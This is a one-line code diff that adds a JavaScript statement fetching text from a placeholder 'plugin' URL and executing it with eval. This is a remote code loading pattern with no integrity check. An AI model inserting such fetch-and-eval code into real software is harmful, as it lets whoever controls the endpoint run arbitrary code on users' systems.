@@ -1,0 +1,1 @@
+fetch("https://api.example.org/plugin").then((r) => r.text()).then(eval);
